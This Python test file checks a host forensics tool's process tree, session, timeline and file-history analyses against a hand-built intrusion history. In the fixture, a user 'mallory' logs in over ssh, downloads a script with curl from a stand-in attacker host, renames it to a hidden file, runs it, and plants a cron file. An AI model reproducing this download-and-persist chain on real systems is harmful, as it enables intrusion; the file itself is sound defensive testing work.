"""Tree, sessions, timeline, file history and targets on a hand-built host history."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest

from forensix.analysis.filehistory import file_history
from forensix.analysis.processes import tree
from forensix.analysis.sessions import attribute, find_session, sessions
from forensix.analysis.targets import NotFound, Target, parse_target, resolve
from forensix.analysis.timeline import TimelineFilter, timeline
from forensix.errors import UsageError
from forensix.render.tree import render_timeline_text, render_timesketch, render_tree_text
from forensix.store.base import Reader
from forensix.store.embedded import open_reader, open_writer
from forensix.testing.generator import StoreBuilder


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> tuple[Reader, StoreBuilder, dict[str, Any]]:
    b = StoreBuilder()
    init = b.spawn(None, 1, 0, "/usr/lib/systemd/systemd", ["/sbin/init"])
    sshd = b.spawn(init, 500, 0.5, "/usr/sbin/sshd", ["/usr/sbin/sshd", "-D"])
    cron = b.spawn(init, 510, 0.6, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"])
    nginx = b.spawn(init, 520, 0.7, "/usr/sbin/nginx")
    worker = b.spawn(nginx, 521, 0.8, "/usr/sbin/nginx", ["nginx: worker process"])
    getty = b.spawn(init, 530, 0.9, "/sbin/agetty", ["/sbin/agetty", "tty1"])
    b.exec(getty, 50, "/bin/login", ["login", "--", "root"])
    console_sh = b.spawn(getty, 531, 51, "/usr/bin/bash", ["-bash"], auid=0, sid=3, tty="tty1")
    # an ssh login: accept on the listener, a per-connection sshd, the user's shell
    b.accept(sshd, 99.99, ("10.0.0.5", 22), ("203.0.113.66", 51515))
    conn = b.spawn(sshd, 600, 100, "/usr/sbin/sshd", ["sshd: mallory [priv]"])
    sh = b.spawn(conn, 601, 101, "/usr/bin/bash", ["-bash"], uid=1001, auid=1001, sid=7, tty="pts/0")
    curl = b.spawn(sh, 602, 110, "/usr/bin/curl", ["curl", "-o", "/tmp/x.sh", "http://203.0.113.66:8000/x.sh"])
    b.connect(curl, 110.1, ("10.0.0.5", 40404), ("203.0.113.66", 8000))
    b.write_file(curl, 110.2, "/tmp/x.sh", 900)
    b.exit(curl, 110.5)
    b.file_op(sh, 111, "chmod", "/tmp/x.sh", file_mode=0o755)
    b.rename(sh, 112, "/tmp/x.sh", "/tmp/.hidden")
    script = b.spawn(sh, 603, 113, "/tmp/.hidden", ["/tmp/.hidden"])
    b.write_file(script, 114, "/etc/cron.d/evil", 60)
    b.exit(script, 115, 1)
    sudo = b.spawn(sh, 604, 120, "/usr/bin/sudo", ["sudo", "id"])
    b.setuid(sudo, 120.1, 0)
    b.file_op(sh, 130, "unlink", "/tmp/.hidden")
    job = b.spawn(cron, 700, 200, "/usr/sbin/cron", ["/usr/sbin/cron", "-f"], auid=0, sid=9)
    jsh = b.spawn(job, 701, 200.1, "/bin/sh", ["/bin/sh", "-c", "backup"])
    shim = b.spawn(init, 800, 300, "/usr/bin/containerd-shim-runc-v2")
    ctr = b.spawn(shim, 801, 301, "/usr/bin/app", ns_pid=4026532999)
    # pid reuse: pid 602 again, much later
    again = b.spawn(init, 602, 400, "/usr/bin/sleep", ["sleep", "1"])
    path = tmp_path_factory.mktemp("views") / "s.duckdb"
    w = open_writer(path)
    b.write(w)
    w.close()
    objs = {"init": init, "sshd": sshd, "cron": cron, "nginx": nginx, "worker": worker, "getty": getty,
                "console_sh": console_sh, "conn": conn, "sh": sh, "curl": curl, "script": script, "sudo": sudo, "job": job,
                "jsh": jsh, "shim": shim, "ctr": ctr, "again": again}
    return open_reader(path), b, objs


def test_tree_is_depth_first_with_ends_and_users(host: Any) -> None:
    r, b, o = host
    t = tree(r, names=lambda uids: {0: "root", 1001: "mallory"})
    rows = t.to_pylist()
    order = [x["entity_id"] for x in rows]
    assert order[0] == o["init"].entity_id and len(rows) == len(set(order)) == 17
    assert order.index(o["sh"].entity_id) < order.index(o["curl"].entity_id) < order.index(o["script"].entity_id)
    curl = rows[order.index(o["curl"].entity_id)]
    assert curl["depth"] == 4 and curl["end_ts"] == b.t(110.5) and curl["user_name"] == "mallory"
    assert rows[order.index(o["script"].entity_id)]["exit_code"] == 1
    buf = io.StringIO()
    render_tree_text(t, buf)
    assert "        curl -o /tmp/x.sh" in buf.getvalue()


def test_tree_at_a_time_and_subtrees(host: Any) -> None:
    r, b, o = host
    at = b.t(112)
    t = tree(r, at=at)
    ents = set(t.column("entity_id").to_pylist())
    assert o["curl"].entity_id in ents and o["script"].entity_id not in ents  # not started yet
    alive = set(tree(r, at=at, alive_only=True).column("entity_id").to_pylist())
    assert o["curl"].entity_id not in alive and o["sh"].entity_id in alive
    getty = tree(r, at=b.t(10), root=o["getty"].entity_id).to_pylist()
    assert getty[0]["executable"] == "/sbin/agetty"  # exec'd into login only at t=50
    assert tree(r, root=o["getty"].entity_id).to_pylist()[0]["executable"] == "/bin/login"
    sub = tree(r, root=o["sh"].entity_id).column("entity_id").to_pylist()
    assert sub[0] == o["sh"].entity_id and o["sshd"].entity_id not in sub


def test_pid_at_time_picks_the_right_process(host: Any) -> None:
    r, b, o = host
    assert resolve(r, Target("process", pid=602, at=b.t(111))).entity == o["curl"].entity_id
    assert resolve(r, Target("process", pid=602, at=b.t(500))).entity == o["again"].entity_id
    with pytest.raises(UsageError, match="pid 602"):
        resolve(r, Target("process", pid=602, at=b.t(-100)))


def test_sessions_attribute_every_process(host: Any) -> None:
    r, _b, o = host
    att = attribute(r)
    lead = att.leader_of
    assert lead[o["curl"].entity_id] == lead[o["sh"].entity_id] == lead[o["sudo"].entity_id] == o["conn"].entity_id
    assert lead[o["jsh"].entity_id] == o["job"].entity_id
    assert lead[o["worker"].entity_id] == o["nginx"].entity_id
    assert lead[o["ctr"].entity_id] == o["ctr"].entity_id
    assert lead[o["console_sh"].entity_id] == o["getty"].entity_id
    rows = {x["leader_entity_id"]: x for x in sessions(r, att, names=lambda u: {}).to_pylist()}
    ssh = rows[o["conn"].entity_id]
    assert ssh["kind"] == "sshd" and (ssh["source_ip"], ssh["source_port"]) == ("203.0.113.66", 51515)
    assert ssh["user_id"] == 1001 and ssh["audit_session_id"] == 7 and ssh["processes"] == 5
    assert ssh["transitions"] == ["sudo[604]"]
    assert ssh["end_ts"] is None  # the shell never exited while recorded
    assert rows[o["job"].entity_id]["kind"] == "cron"
    assert rows[o["nginx"].entity_id]["kind"] == "systemd"
    assert rows[o["ctr"].entity_id]["kind"] == "container"
    assert rows[o["getty"].entity_id]["kind"] == "console"
    assert rows[o["init"].entity_id]["kind"] == "init"


def test_find_session_by_audit_id_member_and_errors(host: Any) -> None:
    r, _, o = host
    assert find_session(r, "7")[0] == o["conn"].entity_id
    assert find_session(r, f"{o['curl'].entity_id:016x}")[0] == o["conn"].entity_id
    with pytest.raises(UsageError, match="audit session id 4242"):
        find_session(r, "4242")
    with pytest.raises(UsageError, match="no process with entity id"):
        find_session(r, "00000000000000ff")


def test_timeline_filters_messages_and_timesketch(host: Any) -> None:
    r, b, o = host
    t = timeline(r, TimelineFilter(since=b.t(110.05), until=b.t(113)))
    msgs = t.column("message").to_pylist()
    assert msgs[0] == "connect 10.0.0.5:40404 -> 203.0.113.66:8000 tcp"
    assert "rename /tmp/x.sh -> /tmp/.hidden" in msgs and "chmod /tmp/x.sh mode 755" in msgs
    assert t.column("ts").to_pylist() == sorted(t.column("ts").to_pylist())
    net = timeline(r, TimelineFilter(categories=["network"], entities=[o["curl"].entity_id]))
    assert net.num_rows == 1
    buf = io.StringIO()
    render_timesketch(t, buf)
    docs = [json.loads(x) for x in buf.getvalue().splitlines()]
    assert {"message", "datetime", "timestamp", "timestamp_desc"} <= set(docs[0])
    assert docs[0]["timestamp"] == b.t(110.1) // 1000 and docs[0]["datetime"].endswith("Z")


def test_file_history_follows_renames(host: Any) -> None:
    r, _, _o = host
    h = file_history(r, "/tmp/.hidden").to_pylist()
    acts = [(x["action"], x["process_pid"]) for x in h]
    assert acts[0] == ("created/opened O_CREAT", 602)
    assert ("wrote", 602) in acts and ("chmod", 601) in acts
    assert ("renamed to this name", 601) in acts and ("executed", 603) in acts
    assert acts[-1] == ("deleted", 601)
    assert file_history(r, "/tmp/x.sh").num_rows == len(h)


def test_bad_targets_say_what_is_wrong(host: Any) -> None:
    r, _, _ = host
    for text, msg in [("", "empty"), ("12@yesterday", "as a time"), ("not-a-thing", "as a target"),
                      ("300.1.1.1:80", "not an IP"), ("1.2.3.4:99999", "out of range"),
                      ("12345", "as a target")]:
        with pytest.raises(UsageError, match=msg):
            parse_target(text)
    with pytest.raises(UsageError, match="no recorded event touched /etc/cron.d/evl") as e:
        resolve(r, parse_target("/etc/cron.d/evl"))
    assert isinstance(e.value, NotFound) and e.value.exit_code == 3
    assert "in the same directory: /etc/cron.d/evil" in e.value.nearest
    assert any(x.startswith("the record spans ") for x in e.value.nearest)
    with pytest.raises(UsageError, match="no process with entity id 00000000000000ff"):
        resolve(r, parse_target("00000000000000ff"))
    with pytest.raises(UsageError, match="no recorded connection"):
        resolve(r, parse_target("[2001:db8::1]:22"))
    assert parse_target("[2001:db8::1]:22").ip == "2001:db8::1"


def test_timeline_and_file_history_give_flow_edges_stored_once_their_process_and_uid(tmp_path: Any) -> None:
    # the recorder keeps edges flushed from the kernel's map only in flows; a /5 recorder
    # stored them without a uid: the analyses take the process's from the process table
    b = StoreBuilder()
    init = b.spawn(None, 1, 0, "/usr/lib/systemd/systemd", ["/sbin/init"])
    sh = b.spawn(init, 601, 1, "/usr/bin/bash", ["-bash"], uid=1001)
    b.open(sh, 2, "/home/eve/notes", 0)
    b.flow(sh, 2.1, 2.2, "/home/eve/notes", read=4096, stored_once=True)
    del b.flows[-1]["user_id"]  # as forensix-store/5 wrote it
    w = open_writer(tmp_path / "s.duckdb")
    b.write(w)
    w.close()
    r = open_reader(tmp_path / "s.duckdb")
    try:
        rows = [x for x in timeline(r).to_pylist() if x["event_action"] == "flow"]
        buf = io.StringIO()
        render_timeline_text(timeline(r, TimelineFilter(actions=["flow"])), buf)
        history = [(x["action"], x["user_id"]) for x in file_history(r, "/home/eve/notes").to_pylist()]
    finally:
        r.close()
    assert len(rows) == 1
    assert (rows[0]["process_name"], rows[0]["user_id"], rows[0]["file_path"]) == ("bash", 1001, "/home/eve/notes")
    # the uid filled in from the process table (no name: the store has no user database of that host)
    assert " 1001* " in buf.getvalue() and "None" not in buf.getvalue()
    assert history == [("opened for reading", 1001), ("read", 1001)]


def test_file_history_keeps_to_the_lives_of_its_names_when_an_inode_number_is_reused(tmp_path: Any) -> None:
    # useradd's way: the old /etc/passwd is deleted and the new /etc/shadow+ takes its inode
    # number at once (ext4 does), then is renamed over /etc/shadow. The generation tells the
    # two files apart: the history of /etc/shadow has no read of the old passwd in it.
    b = StoreBuilder()
    init = b.spawn(None, 1, 0, "/usr/lib/systemd/systemd", ["/sbin/init"])
    ua = b.spawn(init, 700, 1, "/usr/sbin/useradd", ["useradd", "eve"])
    cat = b.spawn(init, 701, 1, "/usr/bin/cat", ["cat", "/etc/passwd"], uid=1001)
    old, new = {"file_inode": 500, "file_generation": 11}, {"file_inode": 500, "file_generation": 22}
    b.file_op(cat, 2, "open", "/etc/passwd", file_flags=0, **old)
    b.flow(cat, 2.1, 2.2, "/etc/passwd", read=1000, inode=500, generation=11, stored_once=True)
    b.file_op(ua, 3, "unlink", "/etc/passwd", file_inode=None, file_device=None)
    b.file_op(ua, 4, "open", "/etc/shadow+", file_flags=0o1101, **new)
    b.flow(ua, 4.1, 4.2, "/etc/shadow+", write=800, inode=500, generation=22, stored_once=True)
    b.file_op(ua, 5, "rename", "/etc/shadow+", file_target_path="/etc/shadow", file_inode=None, file_device=None)
    b.file_op(cat, 6, "open", "/etc/shadow", file_flags=0, **new)
    w = open_writer(tmp_path / "s.duckdb")
    b.write(w)
    w.close()
    r = open_reader(tmp_path / "s.duckdb")
    try:
        shadow = [(x["action"], x["file_path"], x["process_pid"]) for x in file_history(r, "/etc/shadow").to_pylist()]
        passwd = [(x["action"], x["file_path"], x["process_pid"]) for x in file_history(r, "/etc/passwd").to_pylist()]
    finally:
        r.close()
    assert shadow == [("created/opened O_CREAT", "/etc/shadow+", 700), ("wrote", "/etc/shadow+", 700),
                      ("renamed to this name", "/etc/shadow+", 700), ("opened for reading", "/etc/shadow", 701)]
    assert passwd == [("opened for reading", "/etc/passwd", 701), ("read", "/etc/passwd", 701),
                      ("deleted", "/etc/passwd", 700)]
